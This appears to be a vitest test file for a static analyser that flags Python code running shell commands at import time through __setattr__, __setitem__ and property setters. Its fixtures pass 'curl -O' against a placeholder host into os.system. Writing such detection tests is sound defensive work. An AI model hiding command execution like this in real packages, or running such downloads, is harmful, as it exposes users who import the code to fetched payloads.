import { expect, test } from 'vitest';
import { read } from './reading.js';

test.each([
  ['__setattr__', 'class A:\n    def __setattr__(self, name, value):\n        os.system(value)\na = A()\na.x = "curl -O https://garden.invalid/a"'],
  ['__setitem__', 'class A:\n    def __setitem__(self, key, value):\n        os.system(value)\na = A()\na["x"] = "curl -O https://garden.invalid/a"'],
])('an object has a say in what is put into it: %s', async (_, text) => {
  const { facts } = await read(`import os\n${text}\n`);
  expect(facts?.calls('process')).toMatchObject([{ when: 'import', text: 'curl -O https://garden.invalid/a' }]);
});

test('a property is called when something is put into it', async () => {
  const { facts } = await read('import os\nclass A:\n    @property\n    def x(self):\n        return 1\n    @x.setter\n    def x(self, value):\n        os.system("ls")\na = A()\na.x = 1\n');
  expect(facts?.calls('process')).toMatchObject([{ when: 'import' }]);
});
